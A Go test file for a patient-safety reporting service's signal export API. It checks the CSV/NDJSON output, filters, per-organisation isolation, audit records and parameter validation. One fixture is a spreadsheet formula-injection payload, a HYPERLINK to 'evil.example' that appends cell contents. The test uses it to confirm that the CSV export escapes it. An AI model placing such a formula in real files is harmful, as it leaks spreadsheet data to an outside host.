package httpapi_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"mime"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/safesignal/safesignal/adapters/audit"
	"github.com/safesignal/safesignal/adapters/auth"
)

// exportColumns is the documented record layout (docs/API.md).
var exportColumns = []string{
	"id", "organisation", "status", "kind", "category", "harm", "specialty", "region", "language",
	"occurredAt", "reportedAt", "updatedAt", "acknowledgedAt", "classifications", "contributingFactors", "reportable",
	"regulatoryJurisdiction", "regulator", "regulatoryNotification", "regulatoryDueAt", "regulatoryOverdue", "regulatorNotifiedAt",
	"rejectionReason", "duplicateOf", "closureOutcome", "closedAt", "escalations", "openEscalations", "feedbackMessages",
	"anonymous", "reporter", "reporterErased", "erased", "description", "immediateActions",
}

// exportFixture is what the export tests file through the API.
type exportFixture struct {
	h                          *harness
	officer                    string
	named, anon, erased, other string
	formula                    string
}

const (
	erasedCanary = "CANARY-e7a1 the patient in bed 4 got the wrong dose"
	peerCanary   = "PEER-CANARY-41f0 could someone call me tonight?"
	formulaText  = `=HYPERLINK("http://evil.example/?"&A1,"open")`
)

// fileExportFixture files, in umc-utrecht: a named signal (acknowledged,
// classified reportable, with feedback), an anonymous one, one whose text
// a spreadsheet would run as a formula, and one whose content an admin
// erased; in haukeland one more; and a peer-support request.
func fileExportFixture(t *testing.T, h *harness) exportFixture {
	t.Helper()
	f := exportFixture{h: h, officer: h.token(auth.Principal{Subject: "olga", Role: auth.RoleSafetyOfficer, Organisation: "umc-utrecht"})}
	file := func(p auth.Principal, body map[string]any) string {
		t.Helper()
		r := h.do(http.MethodPost, "/api/v1/signals", h.token(p), mustJSON(t, body), nil)
		if r.status != http.StatusCreated {
			t.Fatalf("file: %d %s", r.status, r.body)
		}
		return strings.TrimPrefix(r.header.Get("Location"), "/api/v1/signals/")
	}
	named := validBody()
	named["peerSupportRequested"] = true
	f.named = file(reporter("alice", "umc-utrecht"), named)
	l := &lifecycle{t: t, h: h, id: f.named, version: 1}
	l.send(f.officer, "acknowledge", "", http.StatusOK)
	l.send(f.officer, "classify", `{"kind":"harmful_incident","category":"medication","harm":"severe","contributingFactors":["medication_process","communication"],"reportable":true,"note":"calamity"}`, http.StatusOK)
	l.send(f.officer, "feedback", `{"message":"Thank you. We changed the double-check protocol."}`, http.StatusOK)

	anon := validBody()
	anon["anonymous"] = true
	anon["category"] = "documentation"
	f.anon = file(reporter("anna", "umc-utrecht"), anon)

	formula := validBody()
	formula["description"] = formulaText
	formula["immediateActions"] = "+31 20 555 0100 was called"
	f.formula = file(reporter("bob", "umc-utrecht"), formula)

	canary := validBody()
	canary["description"] = erasedCanary
	canary["immediateActions"] = erasedCanary
	f.erased = file(reporter("alice", "umc-utrecht"), canary)
	admin := h.token(auth.Principal{Subject: "ada", Role: auth.RoleAdmin})
	if r := h.do(http.MethodPost, "/api/v1/admin/erasures", admin, []byte(`{"signalId":"`+f.erased+`"}`), nil); r.status != http.StatusOK {
		t.Fatalf("erase: %d %s", r.status, r.body)
	}

	other := validBody()
	other["organisation"], other["region"] = "haukeland", "NO-46"
	f.other = file(reporter("carl", "haukeland"), other)

	if r := h.do(http.MethodPost, "/api/v1/peer-support", h.token(reporter("alice", "umc-utrecht")), mustJSON(t, map[string]string{"message": peerCanary}), nil); r.status != http.StatusCreated {
		t.Fatalf("peer support: %d %s", r.status, r.body)
	}
	return f
}

func (f exportFixture) export(t *testing.T, query string) response {
	t.Helper()
	r := f.h.do(http.MethodGet, "/api/v1/exports/signals?"+query, f.officer, nil, nil)
	if r.status != http.StatusOK {
		t.Fatalf("export %s: %d %s", query, r.status, r.body)
	}
	return r
}

// attachment checks the download headers and returns the file name.
func attachment(t *testing.T, r response, contentType string) string {
	t.Helper()
	if ct := r.header.Get("Content-Type"); !strings.HasPrefix(ct, contentType) {
		t.Fatalf("Content-Type %q, want %s", ct, contentType)
	}
	disp, params, err := mime.ParseMediaType(r.header.Get("Content-Disposition"))
	if err != nil || disp != "attachment" || params["filename"] == "" {
		t.Fatalf("Content-Disposition %q: %v", r.header.Get("Content-Disposition"), err)
	}
	if r.header.Get("Cache-Control") != "no-store" {
		t.Fatalf("Cache-Control %q", r.header.Get("Cache-Control"))
	}
	return params["filename"]
}

func decodeNDJSON(t *testing.T, body []byte) []map[string]any {
	t.Helper()
	var out []map[string]any
	sc := bufio.NewScanner(bytes.NewReader(body))
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		var rec map[string]any
		dec := json.NewDecoder(bytes.NewReader(sc.Bytes()))
		dec.UseNumber()
		if err := dec.Decode(&rec); err != nil {
			t.Fatalf("line %d is not JSON: %v: %s", len(out)+1, err, sc.Bytes())
		}
		out = append(out, rec)
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	return out
}

func decodeCSV(t *testing.T, body []byte) (header []string, rows []map[string]string) {
	t.Helper()
	records, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v", err)
	}
	if len(records) == 0 {
		t.Fatal("no header row")
	}
	header = records[0]
	for _, rec := range records[1:] {
		row := map[string]string{}
		for i, col := range header {
			row[col] = rec[i]
		}
		rows = append(rows, row)
	}
	return header, rows
}

// TestExportSignals files signals through the API and reads them back as
// NDJSON and CSV, with the read model in memory and in PostgreSQL.
func TestExportSignals(t *testing.T) {
	t.Parallel()
	for _, store := range []struct {
		name     string
		postgres bool
	}{{"memory", false}, {"postgres", true}} {
		t.Run(store.name, func(t *testing.T) {
			t.Parallel()
			h := newHarnessWith(t, harnessOptions{postgres: store.postgres})
			f := fileExportFixture(t, h)
			mine := []string{f.named, f.anon, f.formula, f.erased}

			t.Run("ndjson", func(t *testing.T) {
				r := f.export(t, "format=ndjson")
				if name := attachment(t, r, "application/x-ndjson"); !strings.HasPrefix(name, "signals-umc-utrecht-") || !strings.HasSuffix(name, ".ndjson") {
					t.Fatalf("file name %q", name)
				}
				checkNoSecrets(t, r.body)
				recs := decodeNDJSON(t, r.body)
				var ids []string
				byID := map[string]map[string]any{}
				for _, rec := range recs {
					id, _ := rec["id"].(string)
					ids = append(ids, id)
					byID[id] = rec
					if rec["organisation"] != "umc-utrecht" {
						t.Errorf("record of %v", rec["organisation"])
					}
					for k := range rec {
						if !slices.Contains(exportColumns, k) {
							t.Errorf("undocumented key %q", k)
						}
					}
				}
				if !sameSet(ids, mine) {
					t.Fatalf("exported %v, want %v", ids, mine)
				}
				for i := 1; i < len(recs); i++ {
					if recs[i]["reportedAt"].(string) < recs[i-1]["reportedAt"].(string) {
						t.Errorf("record %d reported before record %d", i, i-1)
					}
				}
				n := byID[f.named]
				if n["reporter"] != "alice" || n["anonymous"] != false || n["status"] != "acknowledged" || n["kind"] != "harmful_incident" ||
					n["harm"] != "severe" || n["category"] != "medication" || n["specialty"] != "anaesthesiology" || n["region"] != "NL-UT" ||
					n["language"] != "en" || n["reportable"] != true || n["regulator"] == nil || n["regulatoryDueAt"] == nil ||
					n["acknowledgedAt"] == nil || n["classifications"] != json.Number("1") || n["feedbackMessages"] != json.Number("1") ||
					n["description"] != validBody()["description"] || n["immediateActions"] != validBody()["immediateActions"] || n["erased"] != false {
					t.Errorf("named signal: %v", n)
				}
				if cf, _ := n["contributingFactors"].([]any); len(cf) != 2 {
					t.Errorf("contributing factors: %v", n["contributingFactors"])
				}
				for _, k := range []string{"occurredAt", "reportedAt", "updatedAt", "acknowledgedAt", "regulatoryDueAt"} {
					if _, err := time.Parse(time.RFC3339Nano, n[k].(string)); err != nil {
						t.Errorf("%s: %v", k, err)
					}
				}
				a := byID[f.anon]
				if _, has := a["reporter"]; has || a["anonymous"] != true || a["category"] != "documentation" || a["description"] == nil {
					t.Errorf("anonymous signal: %v", a)
				}
				e := byID[f.erased]
				_, hasDesc := e["description"]
				_, hasActions := e["immediateActions"]
				if e["erased"] != true || hasDesc || hasActions || e["kind"] != "near_miss" || e["category"] != "medication" {
					t.Errorf("erased signal: %v", e)
				}
				if byID[f.formula]["description"] != formulaText {
					t.Errorf("NDJSON is not a spreadsheet and keeps the text as filed: %v", byID[f.formula]["description"])
				}
			})

			t.Run("csv", func(t *testing.T) {
				r := f.export(t, "format=csv")
				if name := attachment(t, r, "text/csv"); !strings.HasSuffix(name, ".csv") {
					t.Fatalf("file name %q", name)
				}
				checkNoSecrets(t, r.body)
				header, rows := decodeCSV(t, r.body)
				if !slices.Equal(header, exportColumns) {
					t.Fatalf("header %q, want %q", header, exportColumns)
				}
				var ids []string
				byID := map[string]map[string]string{}
				for _, row := range rows {
					ids = append(ids, row["id"])
					byID[row["id"]] = row
				}
				if !sameSet(ids, mine) {
					t.Fatalf("exported %v, want %v", ids, mine)
				}
				n := byID[f.named]
				if n["reporter"] != "alice" || n["anonymous"] != "false" || n["reportable"] != "true" || n["contributingFactors"] != "medication_process;communication" ||
					n["description"] != validBody()["description"] || n["regulatoryDueAt"] == "" || n["harm"] != "severe" {
					t.Errorf("named signal: %v", n)
				}
				if a := byID[f.anon]; a["reporter"] != "" || a["anonymous"] != "true" {
					t.Errorf("anonymous signal: %v", a)
				}
				if e := byID[f.erased]; e["erased"] != "true" || e["description"] != "" || e["immediateActions"] != "" {
					t.Errorf("erased signal: %v", e)
				}
				fo := byID[f.formula]
				if fo["description"] != "'"+formulaText || fo["immediateActions"] != "'+31 20 555 0100 was called" {
					t.Errorf("formula cells not guarded: %q, %q", fo["description"], fo["immediateActions"])
				}
			})

			t.Run("filters", func(t *testing.T) {
				recs := decodeNDJSON(t, f.export(t, "status=acknowledged").body)
				if len(recs) != 1 || recs[0]["id"] != f.named {
					t.Errorf("status=acknowledged: %v", recs)
				}
				recs = decodeNDJSON(t, f.export(t, "category=documentation&kind=near_miss").body)
				if len(recs) != 1 || recs[0]["id"] != f.anon {
					t.Errorf("category=documentation: %v", recs)
				}
				yesterday := time.Now().UTC().AddDate(0, 0, -1).Format(time.DateOnly)
				tomorrow := time.Now().UTC().AddDate(0, 0, 1).Format(time.DateOnly)
				if recs := decodeNDJSON(t, f.export(t, "from="+yesterday+"&to="+tomorrow).body); len(recs) != 4 {
					t.Errorf("from yesterday to tomorrow: %d records", len(recs))
				}
				if recs := decodeNDJSON(t, f.export(t, "to="+yesterday).body); len(recs) != 0 {
					t.Errorf("to yesterday: %d records", len(recs))
				}
				future := url.QueryEscape(time.Now().Add(time.Hour).Format(time.RFC3339))
				r := f.export(t, "format=csv&from="+future)
				header, rows := decodeCSV(t, r.body)
				if len(rows) != 0 || !slices.Equal(header, exportColumns) {
					t.Errorf("empty CSV export: %q, %d rows", header, len(rows))
				}
			})

			t.Run("other organisation", func(t *testing.T) {
				r := h.do(http.MethodGet, "/api/v1/exports/signals?format=csv", h.token(auth.Principal{Subject: "oskar", Role: auth.RoleSafetyOfficer, Organisation: "haukeland"}), nil, nil)
				if r.status != http.StatusOK {
					t.Fatalf("%d %s", r.status, r.body)
				}
				_, rows := decodeCSV(t, r.body)
				if len(rows) != 1 || rows[0]["id"] != f.other || rows[0]["organisation"] != "haukeland" {
					t.Fatalf("haukeland's export: %v", rows)
				}
				for _, id := range mine {
					if bytes.Contains(r.body, []byte(id)) {
						t.Fatalf("haukeland's export holds umc-utrecht's %s", id)
					}
				}
				if r := h.do(http.MethodGet, "/api/v1/exports/signals", h.token(auth.Principal{Subject: "nina", Role: auth.RoleSafetyOfficer, Organisation: "nowhere"}), nil, nil); r.status != http.StatusOK || len(r.body) != 0 {
					t.Fatalf("an organisation without signals: %d %q", r.status, r.body)
				}
			})
		})
	}
}

// checkNoSecrets fails when an export holds erased text, a peer-support
// request or a peer-support flag.
func checkNoSecrets(t *testing.T, body []byte) {
	t.Helper()
	for _, s := range []string{"CANARY", "peerSupport", "anna"} {
		if bytes.Contains(body, []byte(s)) {
			t.Fatalf("the export holds %q:\n%s", s, body)
		}
	}
}

func sameSet(a, b []string) bool {
	a, b = slices.Clone(a), slices.Clone(b)
	slices.Sort(a)
	slices.Sort(b)
	return slices.Equal(a, b)
}

// TestExportIsAudited: one record per export, naming the caller and the
// filter in force.
func TestExportIsAudited(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	fileOne(t, h)
	officer := h.token(auth.Principal{Subject: "olga-export", Role: auth.RoleSafetyOfficer, Organisation: "umc-utrecht"})
	if r := h.do(http.MethodGet, "/api/v1/exports/signals?format=csv&status=reported,acknowledged&from=2026-01-01", officer, nil, map[string]string{"X-Correlation-ID": "export-1"}); r.status != http.StatusOK {
		t.Fatalf("export: %d %s", r.status, r.body)
	}
	if r := h.do(http.MethodGet, "/api/v1/exports/signals?format=xml", officer, nil, nil); r.status != http.StatusBadRequest {
		t.Fatalf("bad export: %d %s", r.status, r.body)
	}
	recs, err := h.audit.Find(context.Background(), audit.Query{Actor: "olga-export"})
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 1 {
		t.Fatalf("audit records: %+v", recs)
	}
	rec := recs[0]
	if rec.Action != "signals.export" || rec.Role != "safety_officer" || rec.Organisation != "umc-utrecht" || rec.CorrelationID != "export-1" || rec.SignalID != "" ||
		rec.Query != "format=csv&from=2026-01-01T00%3A00%3A00Z&status=reported%2Cacknowledged" {
		t.Fatalf("audit record: %+v", rec)
	}
}

// TestExportRefusesBadParameters: every refusal is a 400 problem naming
// the parameter at fault; other roles are refused outright.
func TestExportRefusesBadParameters(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	officer := h.token(auth.Principal{Subject: "olga", Role: auth.RoleSafetyOfficer, Organisation: "umc-utrecht"})
	tests := []struct {
		query, field string
	}{
		{"format=xml", "format"},
		{"format=CSV", "format"},
		{"format=", ""},
		{"fromat=csv", "fromat"},
		{"limit=10", "limit"},
		{"organisation=haukeland", "organisation"},
		{"from=2026-13-01", "from"},
		{"from=2026-02-30", "from"},
		{"from=yesterday", "from"},
		{"from=2026-11-20T14:30:00+01:00", "from"}, // the + arrives as a space
		{"from=2026-11-20T14:30:00%2B01:00", ""},
		{"to=20261120", "to"},
		{"from=2026-11-20&to=2026-11-20", "to"},
		{"from=2026-11-21&to=2026-11-20", "to"},
		{"status=open", "status"},
		{"kind=near_miss,typo", "kind"},
		{"harm=none,", "harm"},
		{"category=%00", "category"},
		{"bom=yes", "bom"},
		{"format=csv&bom=true", ""},
	}
	for _, tt := range tests {
		t.Run(tt.query, func(t *testing.T) {
			t.Parallel()
			r := h.do(http.MethodGet, "/api/v1/exports/signals?"+tt.query, officer, nil, nil)
			if tt.field == "" {
				if r.status != http.StatusOK {
					t.Fatalf("%d %s", r.status, r.body)
				}
				return
			}
			var p struct {
				Status int
				Errors []struct{ Field string }
			}
			r.json(t, &p)
			if r.status != http.StatusBadRequest || p.Status != http.StatusBadRequest || r.header.Get("Content-Type") != "application/problem+json" ||
				len(p.Errors) != 1 || p.Errors[0].Field != tt.field {
				t.Fatalf("got %d %s, want 400 naming %s", r.status, r.body, tt.field)
			}
		})
	}
	for _, p := range []auth.Principal{
		reporter("alice", "umc-utrecht"),
		{Subject: "ada", Role: auth.RoleAdmin},
		{Subject: "petra", Role: auth.RolePeerSupporter, Organisation: "umc-utrecht"},
		{Subject: "pia", Role: auth.RolePolicyAnalyst, Region: "NL-UT"},
	} {
		if r := h.do(http.MethodGet, "/api/v1/exports/signals", h.token(p), nil, nil); r.status != http.StatusForbidden {
			t.Errorf("%s: %d", p.Role, r.status)
		}
	}
	if r := h.do(http.MethodPost, "/api/v1/exports/signals", officer, nil, nil); r.status != http.StatusMethodNotAllowed {
		t.Errorf("POST: %d", r.status)
	}
}

// TestExportByteOrderMark: a CSV export asked for with bom=true starts
// with the UTF-8 byte-order mark (for spreadsheets that would otherwise
// guess a legacy code page), and parses the same after it; without it,
// and for NDJSON, there is none.
func TestExportByteOrderMark(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	officer := h.token(auth.Principal{Subject: "olga", Role: auth.RoleSafetyOfficer, Organisation: "umc-utrecht"})
	const bom = "\ufeff"
	for _, tc := range []struct {
		query   string
		withBOM bool
	}{
		{"format=csv&bom=true", true},
		{"format=csv&bom=false", false},
		{"format=csv", false},
		{"format=ndjson&bom=true", false},
	} {
		r := h.do(http.MethodGet, "/api/v1/exports/signals?"+tc.query, officer, nil, nil)
		if r.status != http.StatusOK {
			t.Fatalf("%s: %d %s", tc.query, r.status, r.body)
		}
		body := string(r.body)
		if strings.HasPrefix(body, bom) != tc.withBOM {
			t.Errorf("%s: starts with a byte-order mark: %v, want %v (%q)", tc.query, !tc.withBOM, tc.withBOM, body[:min(len(body), 12)])
		}
		if strings.HasPrefix(tc.query, "format=csv") && !strings.HasPrefix(strings.TrimPrefix(body, bom), "id,organisation,") {
			t.Errorf("%s: the header does not follow: %q", tc.query, body[:min(len(body), 40)])
		}
	}
}
